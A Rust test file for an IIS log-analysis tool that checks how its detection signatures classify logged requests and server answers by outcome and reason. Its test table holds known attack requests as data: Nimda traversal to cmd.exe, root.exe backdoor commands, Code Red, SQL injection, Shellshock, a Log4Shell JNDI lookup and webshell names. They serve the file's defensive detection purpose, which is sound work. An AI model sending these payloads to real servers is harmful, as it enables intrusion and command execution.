//! What became of a request, by the answer that the log records: a table of
//! log lines with the outcome and the reason expected of them, and the tests
//! that the signatures carry.
//!
//! The rows follow the ladder of outcomes and what is known of the answers
//! of IIS 4 to 10, URLScan and HTTP.sys. Each criterion of
//! `signatures/outcomes.yml` must decide a row, so that a new one comes with
//! its line.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;

use iisleuth::signature::{Criterion, Range, Signatures, Source};
use serde_json::Value;

use super::library::{scan_bytes_with, signatures, text};
use super::support::{Folder, run};

/// A word for the rows; the rule; method, path, query and user agent. The
/// path `!` is the one that `URLScan` puts in place of the request's.
const REQUESTS: &str = r"
urlscan; urlscan-rejected; GET ! ~/docs/v1.2/a.htm
urlscan-eml; urlscan-rejected; GET ! ~/a%25.eml
urlscan-ida; code-red; GET ! ~/default.ida?NNNNNNNNNNNNNNNNNNNN
urlscan-root; root-exe-backdoor; GET ! ~/scripts/root.exe?/c+ver
pma; foreign-phpmyadmin; GET /phpmyadmin/ -
propfind; webdav-propfind-probe; PROPFIND / - davtest/1.0
ida; code-red; GET /default.ida NNNNNNNNNNNNNNNNNNNN
double; nimda-double-decode; GET /scripts/..%5c../winnt/system32/cmd.exe /c+dir
union; sql-injection-union; GET /a.aspx id=-1+union+all+select+1,2,3--
shell-post; webshell-known-names; POST /aspxspy.aspx -
rau; telerik-asyncupload-probe; GET /Telerik.Web.UI.WebResource.axd type=rau
proxy; open-proxy-probe; GET /testproxy.php -
put; webdav-put-script; PUT /a.asp -
root-ver; root-exe-backdoor; GET /scripts/root.exe /c+ver
pma-inc; foreign-phpmyadmin; GET /phpmyadmin/a.inc -
pma-sys; foreign-phpmyadmin; GET /phpmyadmin/a.sys -
pma-php; foreign-phpmyadmin; GET /phpmyadmin/a.php -
sample; iis-samples; GET /iissamples/issamples/query.asp -
htr; htr-request; GET /global.asa+.htr -
frontpage; frontpage-probe; GET /_vti_inf.html -
nimda; nimda-root-exe; GET /scripts/root.exe /c+dir
unicode; nimda-unicode; GET /scripts/..%c1%1c../winnt/system32/cmd.exe /c+dir
translate; translate-f; GET /global.asa\ -
search; webdav-propfind-probe; SEARCH / -
shellshock; shellshock; GET / - ()+{+:;};+/bin/bash+-c+id
log4shell; log4shell; GET / x=${jndi:ldap://198.51.100.7/a}
shell; webshell-known-names; GET /aspxspy.aspx -
root-dir; root-exe-backdoor; GET /scripts/root.exe /c+dir+c:\
cmd; cmd-exe-request; GET /scripts/cmd.exe /c+copy+a+b
move; webdav-put-script; MOVE /a.asp -
delete; own-delete; DELETE /a.asp -
shell-query; webshell-known-names; GET /aspxspy.aspx cmd=dir
stream; data-stream; GET /default.asp::$DATA -
";

/// Request and version of IIS, `-` where not logged; answer; outcome and
/// reason. An answer is `STATUS[.SUBSTATUS] [WIN32 [BYTES]]`, `-` where no
/// status is logged. Columns that are not given are not logged.
const REFUSED: &str = "
urlscan 5.0; 404 2; blocked urlscan-rejection
urlscan-eml 6.0; 404.0 2; blocked urlscan-rejection
urlscan-ida 5.0; 404 2; blocked urlscan-rejection
urlscan-root 5.0; 404 2; blocked urlscan-rejection
urlscan-root 6.0; 404.2 1260; blocked urlscan-rejection
pma 7.5; 404.5 0; blocked request-filtering
propfind 7.5; 404.6 0; blocked request-filtering
ida 7.5; 404.7 0; blocked request-filtering
pma 8.5; 404.8 0; blocked request-filtering
pma 8.5; 404.10 0; blocked request-filtering
pma 8.5; 404.11 0; blocked request-filtering
double 7.5; 404.11 0; blocked request-filtering
pma 8.5; 404.12 0; blocked request-filtering
pma 8.5; 404.13 0; blocked request-filtering
pma 8.5; 404.14 0; blocked request-filtering
union 8.5; 404.15 0; blocked request-filtering
union 8.5; 404.18 0; blocked request-filtering
shell-post 8.5; 404.19 0; blocked request-filtering
pma 10.0; 404.20 0; blocked request-filtering
pma 10.0; 401.501 0; blocked ip-restriction
pma 10.0; 403.502 0; blocked ip-restriction
pma 10.0; 403.503 5; blocked ip-restriction
pma 10.0; 404.504 0; blocked ip-restriction
pma 6.0; 403.6 5; blocked ip-restriction
pma 5.0; 400 87; blocked bad-request
rau 8.5; 400.0 0; blocked bad-request
proxy 8.5; 400.0 0; blocked bad-request
put 6.0; 400.0 0; blocked bad-request
pma 10.0; 505.0 0; blocked version-not-supported
pma 10.0; 413.1 0; blocked request-too-large
pma 10.0; 414.0 0; blocked request-too-large
pma 10.0; 411.0 0; blocked length-required
pma 10.0; 429.0 0; blocked rate-limit
";

/// HTTP.sys answered by itself: its reason, and what that says.
const KERNEL: &str = "
BadRequest 400; blocked http-sys-refusal
Header 400; blocked http-sys-refusal
Hostname 400; blocked http-sys-refusal
Invalid_CR/LF 400; blocked http-sys-refusal
Number 400; blocked http-sys-refusal
Verb 400; blocked http-sys-refusal
URL 400; blocked http-sys-refusal
FieldLength 400; blocked http-sys-refusal
RequestLength 400; blocked http-sys-refusal
URL_Length 414; blocked http-sys-refusal
EntityTooLarge 413; blocked http-sys-refusal
LengthRequired 411; blocked http-sys-refusal
Precondition 412; blocked http-sys-refusal
Forbidden 403; blocked http-sys-refusal
Version_N/S 505; blocked http-sys-refusal
N/I 501; disabled http-sys-not-implemented
AppShutdown 503; disabled application-pool-stopped
Disabled 503; disabled application-pool-stopped
N/A 503; blocked service-unavailable
ConnLimit 503; blocked service-unavailable
QueueFull 503; blocked service-unavailable
AppPoolTimer 503; blocked service-unavailable
Connections_Refused -; blocked service-unavailable
AppOffline 503; crashed rapid-fail-protection
Connection_Abandoned_By_AppPool -; crashed worker-abandoned-request
Connection_Abandoned_By_ReqQueue -; crashed worker-abandoned-request
Request_Cancelled -; blocked request-cancelled
Connection_Dropped -; unknown client-left
Connection_Dropped_List_Full -; unknown client-left
Client_Reset -; unknown client-left
Timer_ConnectionIdle -; unknown timed-out
Timer_HeaderWait -; unknown timed-out
Timer_EntityBody -; unknown timed-out
Timer_MinBytesPerSecond -; unknown timed-out
Timer_AppPool -; unknown timed-out
Timer_ReqQueue -; unknown timed-out
Timer_Response -; unknown timed-out
Timer_SslRenegotiation -; unknown timed-out
Internal 500; unknown http-sys-internal-error
";

/// Switched off, not there, or guarded.
const FAILED: &str = "
ida 6.0; 404.2 1260; disabled extension-prohibited
ida 6.0; 404 1260; disabled extension-prohibited
root-ver 6.0; 404.2 1260; disabled extension-prohibited
pma-inc 7.5; 404.3 50; disabled mime-type-not-served
pma-inc 6.0; 404 50; disabled not-served
pma-sys 8.5; 404.9 0; disabled hidden-file-not-served
put 7.5; 404.16 50; disabled webdav-off
pma-php 7.5; 404.17 50; disabled no-script-mapping
root-ver 6.0; 403.1 5; disabled execute-forbidden
pma 7.5; 403.14 0; disabled listing-off
propfind 7.5; 405.0 1; disabled verb-not-allowed
propfind 5.1; 405 1; disabled verb-not-allowed
propfind 5.0; 501 0; disabled verb-not-implemented
rau 8.5; 500.19 5; disabled configuration-error
sample 7.5; 500.15 0; disabled configuration-error
ida 5.0; 404 2; absent mapping-removed
ida 4.0; 404 0; absent mapping-removed
htr 5.0; 404 2; absent mapping-removed
frontpage 5.0; 404 2; absent not-found
ida 6.0; 404.0 2; absent not-found
ida 6.0; 404.0 0; absent not-found-by-program
nimda 5.0; 404 3; absent not-found
unicode 5.0; 500 87; absent path-rejected
pma 8.5; 404.4 2; absent no-handler-mapping
pma 8.5; 404.0 2; absent not-found
pma 8.5; 404.0 64; absent not-found
pma 8.5; 404.0 1236; absent not-found
pma 8.5; 410.0 0; absent not-found
pma 8.5; 404 0; absent not-found-no-substatus
nimda 5.0; 401 5; denied logon-required
pma 8.5; 401.2 5; denied logon-required
pma 8.5; 401.1 2148074254; denied logon-required
pma 8.5; 401.1 1326; denied logon-required
nimda 5.0; 403 5; denied access-forbidden
root-ver 7.5; 403.14 0; denied access-forbidden
pma 6.0; 403.2 5; denied access-policy
root-ver 6.0; 403.18 0; denied execute-forbidden
pma 6.0; 403.22 5; denied webdav-access-off
put 6.0; 403.3 5; denied webdav-access-refused
union 8.5; 403.0 0; denied access-forbidden
pma 8.5; 407.0 0; denied proxy-logon-required
proxy 8.5; 440.0 0; denied session-required
proxy 8.5; 302.0 0; denied redirected-to-logon
rau 8.5; 302.0 0; denied redirected-to-logon
";

/// Not told, answered, broken, or done.
const ANSWERED: &str = "
ida 5.0; -; unknown no-status
root-ver 5.0; -; unknown no-status
pma 10.0; 0.0 64; unknown no-answer
translate 5.0; 200 0; unknown payload-not-logged
pma 8.5; 500.50 0; unknown rewrite-error
ida 5.0; 200 0; reached answered
frontpage 5.0; 200 0; reached answered
rau 8.5; 200.0 64; reached answered
frontpage 5.0; 304 0; reached not-modified
pma 8.5; 302.0 0; reached redirected
pma 8.5; 200.0 0; reached file-returned
pma 8.5; 206.0 0; reached file-returned
pma 8.5; 416.0 0; reached range-refused
sample 6.0; 500.100 0; reached asp-error
pma 8.5; 500.0 64; reached server-error
pma 8.5; 504.0 0; reached server-error
pma 8.5; 500.0 64 0; reached error-client-left
rau 8.5; 415.0 0; reached application-refused
proxy 8.5; 422.0 0; reached application-refused
propfind 6.0; 207.0 0; reached webdav-answered
search 5.0; 411 0; reached webdav-length-required
put 6.0; 409.0 0; reached webdav-refused
union 8.5; 200.0 0; reached page-answered
union 8.5; 500.0 0; reached page-failed
shellshock 8.5; 200.0 0; reached page-served-as-usual
log4shell 8.5; 200.0 0; reached page-answered
shell 8.5; 200.0 0; reached shell-page-answered
root-ver 6.0; 502.3 0; reached gateway-error
ida 5.0; 500 0; crashed overflow-error-500
pma 8.5; 500.0 0 0; crashed empty-error
pma 8.5; 500.12 0; crashed application-restarting
pma 8.5; 503.2 0; crashed service-unavailable
root-dir 5.0; 200 0 1500; succeeded program-output
root-dir 5.0; 200 64; succeeded program-answered
root-dir 8.5; 200.0 0; succeeded program-answered
cmd 4.0; 502 0; succeeded program-without-headers
root-ver 6.0; 502.2 0; succeeded program-without-headers
root-ver -; 502 0; succeeded program-without-headers
put 6.0; 201.0 0; succeeded resource-created
move 6.0; 204.0 0; succeeded resource-replaced
delete 6.0; 204.0 0; succeeded resource-deleted
shell-post 8.5; 200.0 0; succeeded shell-took-command
shell-query 8.5; 200.0 0; succeeded shell-took-command
stream 4.0; 200 0; succeeded source-returned
";

/// A rule without a block: its feature is told from the request.
const OWN: &str = "
title: A file is deleted
name: own-delete
logsource: {category: webserver}
detection: {selection: {cs-method: DELETE}, condition: selection}
level: low
";

struct Row<'a> {
    text: &'a str,
    rule: &'a str,
    log: String,
    outcome: &'a str,
    reason: &'a str,
}

impl<'a> Row<'a> {
    fn read(text: &'a str) -> Self {
        let cells: Vec<_> = text.split("; ").collect();
        let [request, answer, expected] = cells[..] else {
            panic!("not three cells: {text}");
        };
        let (word, version) = request.split_once(' ').unwrap();
        let request = REQUESTS.lines().find_map(|line| {
            let rest = line.strip_prefix(word)?.strip_prefix("; ")?;
            rest.split_once("; ")
        });
        let (rule, request) =
            request.unwrap_or_else(|| panic!("no request: {text}"));
        let (outcome, reason) = expected.split_once(' ').unwrap();
        let request = request.replace('!', "/<Rejected-By-UrlScan>");
        let log = log(version, &request, answer);
        Self { text, rule, log, outcome, reason }
    }

    /// A row of [`KERNEL`].
    fn kernel(text: &'a str) -> Self {
        let (answer, expected) = text.split_once("; ").unwrap();
        let (reason, status) = answer.split_once(' ').unwrap();
        let (outcome, code) = expected.split_once(' ').unwrap();
        let log = format!(
            "#Software: Microsoft HTTP API 2.0\n#Version: 1.0\n#Fields: date \
             time c-ip c-port s-ip s-port cs-version cs-method cs-uri \
             sc-status s-siteid s-reason s-queuename\n2016-02-03 04:05:06 \
             192.0.2.7 4711 10.0.0.5 80 HTTP/1.1 GET /phpmyadmin/?a=b \
             {status} 1 {reason} DefaultAppPool\n"
        );
        let rule = "foreign-phpmyadmin";
        Self { text, rule, log, outcome, reason: code }
    }
}

/// A log of one request.
fn log(version: &str, request: &str, answer: &str) -> String {
    let mut fields = String::from("date time c-ip cs-method");
    let mut line = String::from("2016-02-03 04:05:06 192.0.2.7");
    for (word, name) in request.split(' ').zip([
        "",
        " cs-uri-stem",
        " cs-uri-query",
        " cs(User-Agent)",
    ]) {
        fields.push_str(name);
        line.push(' ');
        line.push_str(word);
    }
    let mut numbers = answer.split(' ').filter(|word| *word != "-");
    let mut add = |name: &str, value: Option<&str>| {
        if let Some(value) = value {
            write!(fields, " {name}").unwrap();
            write!(line, " {value}").unwrap();
        }
    };
    let status = numbers.next();
    match status.and_then(|status| status.split_once('.')) {
        Some((status, substatus)) => {
            add("sc-status", Some(status));
            add("sc-substatus", Some(substatus));
        }
        None => add("sc-status", status),
    }
    add("sc-win32-status", numbers.next());
    add("sc-bytes", numbers.next());
    let name = "#Software: Microsoft Internet Information Services";
    let software = match version {
        "-" => String::new(),
        version => format!("{name} {version}\n"),
    };
    format!("{software}#Version: 1.0\n#Fields: {fields}\n{line}\n")
}

fn rows() -> Vec<Row<'static>> {
    fn lines(table: &str) -> impl Iterator<Item = &str> {
        table.lines().filter(|line| !line.is_empty())
    }
    let mut rows: Vec<_> = [REFUSED, FAILED, ANSWERED]
        .into_iter()
        .flat_map(lines)
        .map(Row::read)
        .collect();
    rows.extend(lines(KERNEL).map(Row::kernel));
    rows
}

fn set_with_own_rule() -> Signatures {
    let folder = Folder::new("own-rule");
    let path = folder.write("own-delete.yml", OWN);
    let source = Source { paths: vec![path], ..Source::default() };
    Signatures::load(&source).expect("the signatures and the own rule")
}

#[test]
fn the_table_of_answers() {
    let set = set_with_own_rule();
    let rows = rows();
    assert!(rows.len() >= 70, "{} rows", rows.len());
    let mut faults = Vec::new();
    let mut decided = BTreeSet::new();
    for row in &rows {
        let scan =
            scan_bytes_with(&set, Path::new("row.log"), row.log.as_bytes());
        let hit = scan.hits.iter().find(|hit| hit["rule"] == row.rule);
        let Some(hit) = hit else {
            faults.push(format!("{}: no hit in\n{}", row.text, row.log));
            continue;
        };
        let found = [&hit["outcome"], &hit["reasons"][0]["code"]].map(text);
        if found != [row.outcome, row.reason] {
            faults.push(format!("{}: is {found:?} in\n{}", row.text, row.log));
        }
        decided.extend(criterion(&set, hit));
    }
    for (place, list) in lists(&set) {
        for (index, one) in list.iter().enumerate() {
            if !decided.contains(&(place.to_owned(), index)) {
                let (number, code) = (index + 1, &one.reason);
                faults.push(format!("no row for {place} {number}, {code}"));
            }
        }
    }
    assert!(
        faults.is_empty(),
        "{} faults\n{}",
        faults.len(),
        faults.join("\n")
    );
}

/// The lists of `outcomes.yml`.
fn lists(set: &Signatures) -> Vec<(&str, &[Criterion])> {
    let outcomes = set.outcomes();
    let profiles = outcomes.profiles.iter();
    profiles
        .map(|(name, list)| (name.as_str(), list.as_slice()))
        .chain([("generic", outcomes.generic.as_slice())])
        .collect()
}

/// The criterion that decided: of those with this outcome, reason and text,
/// the first whose numbers and method fit.
fn criterion(set: &Signatures, hit: &Value) -> Option<(String, usize)> {
    let profile = hit["feature"]
        .as_str()
        .and_then(|id| set.feature(id))
        .map_or("generic", |feature| feature.profile.as_str());
    let fits = |one: &Criterion| {
        let reason = &hit["reasons"][0];
        let method = text(&hit["method"]);
        reason["code"] == one.reason.as_str()
            && text(&reason["text"]).starts_with(&one.text)
            && hit["outcome"] == one.outcome.as_str()
            && hit["confidence"] == one.confidence.as_str()
            && holds(&one.when.status, &hit["status"])
            && holds(&one.when.substatus, &hit["substatus"])
            && (one.when.method.is_empty()
                || one.when.method.iter().any(|it| it == method))
    };
    [profile, "generic"].into_iter().find_map(|place| {
        let lists = lists(set);
        let (_, list) = lists.iter().find(|(name, _)| *name == place)?;
        let index = list.iter().position(fits)?;
        Some((place.to_owned(), index))
    })
}

fn holds(ranges: &[Range], number: &Value) -> bool {
    let number = number.as_f64();
    ranges.is_empty()
        || number.is_some_and(|it| ranges.iter().any(|one| one.contains(it)))
}

#[test]
fn every_signature_carries_tests_and_passes_them() {
    let mut lines = 0;
    for rule in signatures().rules() {
        let tests = &rule.sleuth.tests;
        let counts = [tests.matching.len(), tests.other.len()];
        let name = &rule.name;
        let stories = tests.stories.iter();
        let (holding, other): (Vec<_>, Vec<_>) =
            stories.partition(|it| it.outcome.is_some());
        let told = [holding.len(), other.len()];
        let counts = [counts[0] + told[0], counts[1] + told[1]];
        assert!(counts.iter().all(|it| *it >= 2), "{name}: {counts:?}");
        for line in &tests.matching {
            assert!(line.outcome.is_some(), "{name}: line {} of it", line.at);
        }
        lines += tests.matching.len() + tests.other.len();
        let stories = tests.stories.iter();
        lines += stories.map(|story| story.lines().count()).sum::<usize>();
    }
    let rules = signatures().rules().len();
    assert!(rules >= 300, "{rules} signatures");
    let run = run(["signatures", "test"]);
    assert_eq!(run.code, Some(0), "{}{}", run.out(), run.err());
    let expected = format!("{lines} lines tested, 0 failed\n");
    assert_eq!(run.out(), expected, "{}", run.err());
}

/// What holds of every verdict, whatever the line.
#[test]
fn every_hit_has_an_outcome_and_a_reason() {
    let set = set_with_own_rule();
    let words = [
        "blocked",
        "disabled",
        "absent",
        "denied",
        "unknown",
        "reached",
        "crashed",
        "succeeded",
    ];
    let mut seen = BTreeSet::new();
    for row in rows() {
        let scan =
            scan_bytes_with(&set, Path::new("row.log"), row.log.as_bytes());
        for hit in &scan.hits {
            let outcome = text(&hit["outcome"]);
            assert!(words.contains(&outcome), "{}: {hit}", row.text);
            seen.insert(outcome.to_owned());
            let reasons = hit["reasons"].as_array().unwrap();
            assert!(!reasons.is_empty(), "{}: {hit}", row.text);
            for reason in reasons {
                assert!(!text(&reason["code"]).is_empty(), "{hit}");
                assert!(!text(&reason["text"]).is_empty(), "{hit}");
            }
        }
    }
    // `compromised` takes more than one line.
    assert_eq!(seen.len(), words.len(), "{seen:?}");
}
